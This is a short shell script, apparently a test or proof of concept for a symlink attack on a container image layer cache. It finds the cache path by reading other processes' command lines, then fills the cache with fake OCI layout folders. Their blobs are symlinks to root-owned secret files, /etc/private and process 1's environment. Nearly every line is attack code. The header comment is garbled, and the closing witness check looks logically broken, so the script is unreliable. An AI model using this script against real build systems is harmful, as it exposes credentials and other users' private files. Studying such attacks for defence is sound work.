# cache_link.sh DIGEST: as root, entries of the layer cache whose contents are files of somebody else.
cache=$(cat /proc/[0-9]*/cmdline | tr '\0' '\n' | sed -n 's/^--cache-repo=oci:\(.*\)\/l$/\1/p' | head -n 1)
for name in "l:$(echo link | sha256sum | cut -c1-64)" "l:..." "a b"; do
    folder="$cache/$name"
    mkdir -p "$folder/blobs/sha256"
    echo '{"imageLayoutVersion":"1.0.0"}' >"$folder/oci-layout"
    echo "{\"schemaVersion\":2,\"manifests\":[{\"digest\":\"sha256:$1\",\"size\":15}]}" >"$folder/index.json"
    ln -s /etc/secret-of-root "$folder/blobs/sha256/$1"
    ln -s /etc/private "$folder/blobs/private"
    ln -s /proc/1/environ "$folder/environ"
done
ln -s /etc/private "$cache/l:$(echo folder | sha256sum | cut -c1-64)"
[ -e "$folder/index.json" ] && echo changed >>"$WITNESS"
